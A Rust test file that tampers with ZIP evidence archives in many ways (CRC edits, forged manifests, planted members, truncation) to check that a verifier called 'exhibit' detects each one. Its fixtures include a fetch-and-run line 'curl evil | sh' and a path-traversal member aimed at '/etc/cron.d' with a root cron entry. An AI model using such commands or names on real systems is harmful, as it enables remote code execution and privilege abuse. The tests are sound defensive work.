//! The tamper matrix: one test per kind of alteration. Each must make
//! `exhibit verify` exit 1 with a problem of the right kind naming the
//! member. Where a common tool misses the alteration, the test shows that too.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests may panic on setup failures

mod common;

use common::*;
use std::fs;
use std::path::{Path, PathBuf};

/// A fresh archive of a small tree: (tempdir, archive path, stem).
fn fresh(store: bool) -> (tempfile::TempDir, PathBuf, String) {
    let t = tempfile::tempdir().unwrap();
    let src = t.path().join("src");
    fs::create_dir_all(src.join("www")).unwrap();
    fs::write(
        src.join("www/index.php"),
        "<?php echo 'hello'; ?>\n".repeat(50),
    )
    .unwrap();
    fs::write(
        src.join("access.log"),
        "10.0.0.1 - - [22/Nov/2026] \"GET / HTTP/1.1\" 200 512\n".repeat(200),
    )
    .unwrap();
    fs::write(src.join("customers.csv"), "id,name\n1,Alice\n2,Bob\n").unwrap();
    let mut args = vec![src.to_str().unwrap().to_string()];
    if store {
        args.push("--store".into());
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let s = capture(&args, &t.path().join("out"));
    let archive = archive_path(&s);
    let stem = archive.file_stem().unwrap().to_string_lossy().into_owned();
    assert_eq!(verify(&archive).0, 0, "fresh archive must verify");
    (t, archive, stem)
}

/// Offsets (local header, central header) of a member, found by the zip crate.
fn offsets(archive: &Path, suffix: &str) -> (u64, u64, u64) {
    let f = fs::File::open(archive).unwrap();
    let mut z = zip::ZipArchive::new(f).unwrap();
    let name = z
        .file_names()
        .find(|n| n.ends_with(suffix))
        .unwrap()
        .to_string();
    let m = z.by_name(&name).unwrap();
    (m.header_start(), m.central_header_start(), m.data_start())
}

fn patch(archive: &Path, at: u64, bytes: &[u8]) {
    let mut data = fs::read(archive).unwrap();
    data[at as usize..at as usize + bytes.len()].copy_from_slice(bytes);
    fs::write(archive, data).unwrap();
}

fn read_u32(archive: &Path, at: u64) -> u32 {
    let data = fs::read(archive).unwrap();
    u32::from_le_bytes(data[at as usize..at as usize + 4].try_into().unwrap())
}

/// Rewrite the archive with Python's zipfile, transforming (name, data) pairs.
fn rewrite(archive: &Path, script: &str) {
    let program = format!(
        "import sys, zipfile\nsrc = zipfile.ZipFile(sys.argv[1])\nitems = [(i.filename, src.read(i)) for i in src.infolist()]\nsrc.close()\n{script}\nout = zipfile.ZipFile(sys.argv[1], 'w', zipfile.ZIP_DEFLATED)\nfor n, d in items:\n    out.writestr(n, d)\nout.close()\n"
    );
    tool(
        "python3",
        &["-c", &program, archive.to_str().unwrap()],
        archive.parent().unwrap(),
    );
}

fn assert_fails(archive: &Path, kind: &str, member_part: &str) -> serde_json::Value {
    let (code, report) = verify(archive);
    assert_eq!(code, 1, "verify must fail: {report:#}");
    assert_eq!(report["ok"], false);
    let hit = report["problems"].as_array().unwrap().iter().any(|p| {
        p["kind"] == kind
            && p["path"]
                .as_str()
                .unwrap_or("(archive)")
                .contains(member_part)
    });
    assert!(
        hit,
        "expected a `{kind}` problem naming `{member_part}`, got {:#}",
        report["problems"]
    );
    report
}

#[test]
fn central_directory_crc_changed() {
    let (t, archive, _) = fresh(false);
    let (_, central, _) = offsets(&archive, "customers.csv");
    let crc = read_u32(&archive, central + 16);
    patch(&archive, central + 16, &(crc ^ 0xdead_beef).to_le_bytes());
    assert_fails(&archive, "crc_mismatch", "customers.csv");
    assert_fails(&archive, "local_header_mismatch", "customers.csv");
    // Info-ZIP's test trusts the local header here and says nothing is wrong.
    let (ok, out) = tool_status("unzip", &["-tq", archive.to_str().unwrap()], t.path());
    assert!(ok, "unzip -t was expected to miss this: {out}");
}

#[test]
fn local_header_crc_changed() {
    let (t, archive, _) = fresh(false);
    let (local, _, _) = offsets(&archive, "customers.csv");
    // Our payload members use a data descriptor; a whole-file member (tag
    // file) carries its CRC in the local header.
    let (local_tag, _, _) = offsets(&archive, "bag-info.txt");
    for at in [local, local_tag] {
        let crc = read_u32(&archive, at + 14);
        patch(&archive, at + 14, &(crc ^ 1).to_le_bytes());
    }
    assert_fails(&archive, "local_header_mismatch", "bag-info.txt");
    assert_fails(&archive, "local_header_mismatch", "customers.csv");
    // Python's zipfile reads the CRC from the central directory only.
    let (ok, out) = tool_status(
        "python3",
        &[
            "-c",
            "import sys,zipfile; assert zipfile.ZipFile(sys.argv[1]).testzip() is None",
            archive.to_str().unwrap(),
        ],
        t.path(),
    );
    assert!(ok, "python zipfile was expected to miss this: {out}");
}

#[test]
fn payload_byte_flipped() {
    let (_t, archive, _) = fresh(true);
    let (_, _, data) = offsets(&archive, "customers.csv");
    patch(&archive, data + 9, b"M"); // "Alice" -> "Mlice"
    assert_fails(&archive, "crc_mismatch", "customers.csv");
}

#[test]
fn payload_replaced_consistently() {
    // The attacker recomputes CRCs (rewrites the ZIP) but cannot fix the manifest hash.
    let (_t, archive, _) = fresh(false);
    rewrite(
        &archive,
        "items = [(n, d.replace(b'Alice', b'Mallory') if n.endswith('customers.csv') else d) for n, d in items]",
    );
    assert_fails(&archive, "manifest_mismatch", "customers.csv");
}

#[test]
fn member_added() {
    let (_t, archive, stem) = fresh(false);
    rewrite(
        &archive,
        &format!("items.append(('{stem}/data/planted.sh', b'curl evil | sh'))"),
    );
    assert_fails(&archive, "unlisted_member", "planted.sh");
}

#[test]
fn member_removed() {
    let (_t, archive, _) = fresh(false);
    rewrite(
        &archive,
        "items = [(n, d) for n, d in items if not n.endswith('access.log')]",
    );
    assert_fails(&archive, "missing_member", "access.log");
}

#[test]
fn member_outside_the_bag() {
    let (_t, archive, _) = fresh(false);
    rewrite(
        &archive,
        "items.append(('README-outside.txt', b'not in the bag'))",
    );
    assert_fails(&archive, "outside_bag", "README-outside.txt");
}

#[test]
fn dot_dot_member_name() {
    let (_t, archive, stem) = fresh(false);
    rewrite(
        &archive,
        &format!("items.append(('{stem}/data/../../etc/cron.d/evil', b'* * * * * root sh'))"),
    );
    assert_fails(&archive, "unsafe_member_name", "../../etc/cron.d/evil");
}

#[test]
fn absolute_member_name() {
    let (_t, archive, _) = fresh(false);
    // Python strips a leading slash when writing, so patch the name bytes.
    rewrite(&archive, "items.append(('Xtmp/abs', b'absolute'))");
    let mut data = fs::read(&archive).unwrap();
    let mut count = 0;
    let needle = b"Xtmp/abs";
    let mut i = 0;
    while i + needle.len() <= data.len() {
        if &data[i..i + needle.len()] == needle {
            data[i] = b'/';
            count += 1;
        }
        i += 1;
    }
    assert_eq!(count, 2, "name appears in local and central header");
    fs::write(&archive, data).unwrap();
    assert_fails(&archive, "unsafe_member_name", "/tmp/abs");
}

#[test]
fn duplicate_member_names() {
    let (_t, archive, stem) = fresh(false);
    rewrite(
        &archive,
        &format!(
            "items.append(('{stem}/data/dup', b'one'))\nitems.append(('{stem}/data/dup', b'two'))"
        ),
    );
    assert_fails(&archive, "duplicate_member", "data/dup");
}

#[test]
fn manifest_edited() {
    let (_t, archive, _) = fresh(false);
    // Make the manifest agree with a forged payload; the tag manifest catches it.
    rewrite(
        &archive,
        "import hashlib\nnew = b'id,name\\n1,Mallory\\n'\nh_old = None\nout = []\nfor n, d in items:\n    if n.endswith('customers.csv'):\n        h_old = hashlib.sha256(d).hexdigest().encode(); d = new\n    out.append((n, d))\nitems = [(n, d.replace(h_old, hashlib.sha256(new).hexdigest().encode()) if n.endswith('/manifest-sha256.txt') else d) for n, d in out]",
    );
    assert_fails(&archive, "tag_mismatch", "manifest-sha256.txt");
}

#[test]
fn tag_file_edited() {
    let (_t, archive, _) = fresh(false);
    rewrite(
        &archive,
        "items = [(n, d.replace(b'Test Examiner', b'Someone Else') if n.endswith('bag-info.txt') else d) for n, d in items]",
    );
    assert_fails(&archive, "tag_mismatch", "bag-info.txt");
}

#[test]
fn files_jsonl_edited() {
    let (_t, archive, _) = fresh(false);
    rewrite(
        &archive,
        "items = [(n, d.replace(b'\"mode\":\"0644\"', b'\"mode\":\"0755\"', 1) if n.endswith('files.jsonl') else d) for n, d in items]",
    );
    assert_fails(&archive, "tag_mismatch", "files.jsonl");
}

#[test]
fn payload_oxum_edited_with_tag_manifest_recomputed() {
    let (_t, archive, _) = fresh(false);
    rewrite(
        &archive,
        "import hashlib, re\nitems = [(n, re.sub(rb'Payload-Oxum: \\d+', b'Payload-Oxum: 1', d) if n.endswith('bag-info.txt') else d) for n, d in items]\ninfo = [d for n, d in items if n.endswith('bag-info.txt')][0]\nitems = [(n, re.sub(rb'\\w{64}(?=  bag-info.txt)', hashlib.sha256(info).hexdigest().encode(), d) if n.endswith('tagmanifest-sha256.txt') else d) for n, d in items]",
    );
    assert_fails(&archive, "oxum_mismatch", "bag-info.txt");
}

#[test]
fn truncated_archive() {
    let (_t, archive, _) = fresh(false);
    let data = fs::read(&archive).unwrap();
    fs::write(&archive, &data[..data.len() * 2 / 3]).unwrap();
    let (code, report) = verify(&archive);
    assert_eq!(code, 1, "{report:#}");
    assert!(
        problem_kinds(&report).contains(&"not_a_zip".to_string()),
        "{report:#}"
    );
}

#[test]
fn bytes_hidden_between_members() {
    let (_t, archive, _) = fresh(true);
    // Insert bytes after the first member and shift every offset: rebuild by
    // appending junk before the central directory and fixing the end record.
    let mut data = fs::read(&archive).unwrap();
    let eocd = data.len() - 22;
    assert_eq!(&data[eocd..eocd + 4], b"PK\x05\x06");
    let cd_start = u32::from_le_bytes(data[eocd + 16..eocd + 20].try_into().unwrap()) as usize;
    let junk = b"hidden payload smuggled between members";
    data.splice(cd_start..cd_start, junk.iter().copied());
    let new_start = (cd_start + junk.len()) as u32;
    let eocd = data.len() - 22;
    data[eocd + 16..eocd + 20].copy_from_slice(&new_start.to_le_bytes());
    fs::write(&archive, data).unwrap();
    let (code, report) = verify(&archive);
    assert_eq!(code, 1);
    assert!(
        problem_kinds(&report).contains(&"gap".to_string()),
        "{report:#}"
    );
}

#[test]
fn not_an_archive_and_missing_file() {
    let t = tempfile::tempdir().unwrap();
    let junk = t.path().join("junk.zip");
    fs::write(&junk, b"this is not a zip file at all").unwrap();
    let (code, report) = verify(&junk);
    assert_eq!(code, 1);
    assert!(problem_kinds(&report).contains(&"not_a_zip".to_string()));
    let o = exhibit()
        .args(["verify"])
        .arg(t.path().join("nope.zip"))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("nope.zip"));
}

#[test]
fn human_report_names_each_problem() {
    let (_t, archive, _) = fresh(false);
    rewrite(
        &archive,
        "items = [(n, d) for n, d in items if not n.endswith('access.log')]",
    );
    let o = exhibit().arg("verify").arg(&archive).output().unwrap();
    assert_eq!(o.status.code(), Some(1));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("FAILED"), "{out}");
    assert!(
        out.contains("missing_member") && out.contains("access.log"),
        "{out}"
    );
}
